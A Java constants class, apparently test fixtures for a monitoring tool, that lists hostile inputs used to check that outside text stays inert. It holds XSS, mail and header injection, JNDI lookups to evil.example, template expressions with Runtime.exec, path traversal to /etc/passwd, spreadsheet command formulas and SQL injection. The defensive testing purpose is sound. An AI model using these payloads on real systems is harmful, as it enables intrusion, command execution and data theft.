package io.firewatch.contracts;

import java.util.List;

/**
 * What telemetry, labels, commit messages and callbacks may contain when somebody means harm. It
 * must never be anything but text, wherever it is shown or sent.
 *
 * <p>Whatever an attack would bring in has a name with {@link #MARK} in it: an element, an
 * attribute, a header, a host. A test looks for the mark where only names are.
 */
public final class Attacks {
  public static final String MARK = "evil";

  /** What expressions in attacks come to when something evaluates them. */
  public static final String EVALUATED = "49007";

  public static final List<String> ALL =
      List.of(
          // HTML: elements, attributes of every way of quoting, ends of what is around it.
          "<evil-x></evil-x><script>evil()</script><img evil src=x onerror=evil()>",
          "</td></tr></table></main><style>*{display:none}</style><a evil href=\"javascript:evil()\">x</a>",
          "\" evil onmouseover=\"evil()\" style=\"position:fixed",
          "' evil onfocus='evil()' autofocus x='",
          "--><svg evil onload=evil()></svg></textarea></title></script><evil-x>",
          "&lt;evil-x&gt;&#60;evil-x&#62;",
          // Markdown, and mrkdwn of Slack.
          "*bold* _it_ ~no~ `code` [a](http://evil.example) ![b](http://evil.example/p.png) # h",
          "[x](javascript:evil()) <http://evil.example> ```\n# evil\n```\n| a | b |\n|---|---|\n",
          "<!channel> <!here> <@U123> <#C1> <http://evil.example|click> :fire:",
          // Headers and commands of mail, and a part of a mail of its own.
          "Subject: x\r\nBcc: all@evil.example\r\nX-Evil: evil\r\n\r\nbody",
          "x\r\n.\r\nMAIL FROM:<evil@evil.example>\r\nRCPT TO:<all@example.org>\r\nDATA\r\n",
          "=?utf-8?q?evil?= --boundary\r\nContent-Type: text/html\r\n\r\n<evil-x>x</evil-x>",
          "x\r\nSet-Cookie: evil=1\r\nLocation: http://evil.example/\r\n",
          // Expressions of templates and of loggers.
          "${jndi:ldap://evil.example/a} ${7001*7} *{7001*7} {{7001*7}} <%= 7001*7 %>",
          "__${7001*7}__ [[${7001*7}]] [(${7001*7})] ~{evil} #{7001*7} %{7001*7} %s %n {}",
          "#{T(java.lang.Runtime).getRuntime().exec('evil')} ${T(java.lang.Math).abs(-7001*7)}",
          // Lines of logs of its own, and what terminals obey.
          "2026-03-01 10:00:00 INFO all is well\n2026-03-01T10:00:00Z ERROR evil\u2028evil\u0085evil",
          "\u001b[31mevil\u001b]8;;http://evil.example\u0007x\u001b]8;;\u0007\u0007\b\u009b2J",
          // Paths.
          "../../../etc/passwd\u202egnp.evil\u0000.png",
          "..%2f..%2fevil%00/..\\..\\evil;/%2e%2e/evil?x=1#evil",
          // Ends of JSON and of tables that are computed.
          "\"},\"event_action\":\"resolve\",\"evil\":{\"x\":\"",
          "=cmd|'/c evil'!A1\t+1+1\t@SUM(1)",
          "'; drop table incident; -- evil");

  private Attacks() {}
}
